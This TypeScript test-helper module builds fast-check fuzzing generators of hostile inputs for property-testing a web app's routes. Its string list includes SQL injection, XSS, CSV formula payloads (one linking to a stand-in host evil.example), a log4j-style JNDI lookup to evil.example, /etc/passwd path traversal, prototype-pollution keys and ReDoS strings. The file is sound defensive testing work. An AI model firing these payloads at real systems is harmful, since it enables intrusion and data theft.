import fc from 'fast-check';

/**
 * Strings an attacker tries in any field: control characters, broken UTF-16, direction marks,
 * emoji, injection payloads (SQL, HTML, CSV formulas, template and path tricks), numbers and dates
 * at the edge of what a parser or column holds, and inputs long enough to make a careless regex
 * backtrack (kept under the 20 000-character safety net so the route's own schema sees them).
 */
export const HOSTILE_STRINGS: readonly string[] = [
  '',
  ' ',
  '\u0000',
  'a\u0000b',
  '\u0001\u0002\u0003\u0007\u0008',
  '\u001b[31mred\u001b[0m',
  '\u007f',
  '\u0085\u009f',
  'line\nbreak\r\n\ttab',
  '\uD800',
  'x\uDFFFy',
  '\uDBFF\uD800',
  '\u202Egnp.exe',
  '\u200B\u200D\uFEFF',
  '😀👩‍👩‍👧‍👦🇱🇻',
  'Ā'.repeat(300),
  '__proto__',
  'constructor',
  'prototype',
  "'; drop table students; --",
  "' or '1'='1",
  '1; select pg_sleep(5)--',
  '$1',
  '%',
  '_',
  '\\',
  '<script>alert(1)</script>',
  '"><img src=x onerror=alert(1)>',
  '=HYPERLINK("http://evil.example","x")',
  "+cmd|' /C calc'!A0",
  '@SUM(1)',
  '-2+3',
  // biome-ignore lint/suspicious/noTemplateCurlyInString: a template-injection payload, sent as is
  '{{7*7}}${7*7}',
  // biome-ignore lint/suspicious/noTemplateCurlyInString: a log4j-style payload, sent as is
  '${jndi:ldap://evil.example/a}',
  '../../../../etc/passwd',
  '..%2F..%2Fetc%2Fpasswd',
  '%00',
  '%ED%A0%80',
  'null',
  'undefined',
  'true',
  'NaN',
  'Infinity',
  '-0',
  '1e308',
  '1e309',
  '9223372036854775808',
  '-9223372036854775809',
  '0x10',
  '0000-01-01',
  '9999-12-31',
  '+275760-09-13',
  '-000001-01-01',
  '2026-02-30',
  '2026-13-01',
  '0000-00',
  '9999-99',
  '00000000-0000-0000-0000-000000000000',
  'ffffffff-ffff-ffff-ffff-ffffffffffff',
  '00000000-0000-4000-8000-00000000000',
  // long inputs under the safety net's 20 000 characters: backtracking regexes show up as slow answers
  'a'.repeat(19_999),
  `${'a@'.repeat(9_000)}!`,
  `${'1'.repeat(19_990)}-x`,
  `${'-'.repeat(19_990)}x`,
  `${' '.repeat(19_990)}x`,
  `${'a.'.repeat(9_990)}@`,
  '9'.repeat(400),
];

/** A hostile string, or a random one with the hostile ones mixed in. */
export const hostileString: fc.Arbitrary<string> = fc.oneof(
  { weight: 4, arbitrary: fc.constantFrom(...HOSTILE_STRINGS) },
  { weight: 1, arbitrary: fc.string({ unit: 'binary', maxLength: 40 }) },
  { weight: 1, arbitrary: fc.string({ unit: 'grapheme', maxLength: 40 }) },
  {
    weight: 1,
    arbitrary: fc
      .tuple(
        fc.string({ maxLength: 8 }),
        fc.constantFrom(...HOSTILE_STRINGS.slice(0, 40)),
        fc.string({ maxLength: 8 }),
      )
      .map(([a, b, c]) => `${a}${b}${c}`),
  },
);

/** Numbers that break careless parsing or overflow a column. */
export const HOSTILE_NUMBERS: readonly number[] = [
  0,
  -0,
  -1,
  0.5,
  1e308,
  -1e308,
  2 ** 31,
  -(2 ** 31) - 1,
  2 ** 53,
  2 ** 63,
  Number.MAX_SAFE_INTEGER + 2,
  Number.MIN_VALUE,
];

/** A value of any JSON type, hostile where it can be. */
export const hostileValue: fc.Arbitrary<unknown> = fc.oneof(
  { weight: 5, arbitrary: hostileString },
  { weight: 2, arbitrary: fc.constantFrom(...HOSTILE_NUMBERS) },
  { weight: 1, arbitrary: fc.double() },
  { weight: 1, arbitrary: fc.constantFrom(true, false, null) },
  { weight: 1, arbitrary: fc.constantFrom([], {}, [null], ['a', 1], { __proto__: null, a: 1 }) },
  { weight: 1, arbitrary: fc.jsonValue({ maxDepth: 3 }) },
);

/** Keys that poison prototypes or do not belong. */
export const hostileKey: fc.Arbitrary<string> = fc.oneof(
  fc.constantFrom(
    '__proto__',
    'constructor',
    'prototype',
    'toString',
    'hasOwnProperty',
    'id',
    'orgId',
    'schoolId',
    'role',
    'isAdmin',
    '$where',
    '',
  ),
  hostileString.filter((k) => k.length < 300),
);

/** A JSON text nested `depth` levels deep (as text, so no stack is spent building it). */
export function deeplyNestedJson(depth: number, kind: 'array' | 'object'): string {
  return kind === 'array'
    ? `${'['.repeat(depth)}1${']'.repeat(depth)}`
    : `${'{"a":'.repeat(depth)}1${'}'.repeat(depth)}`;
}
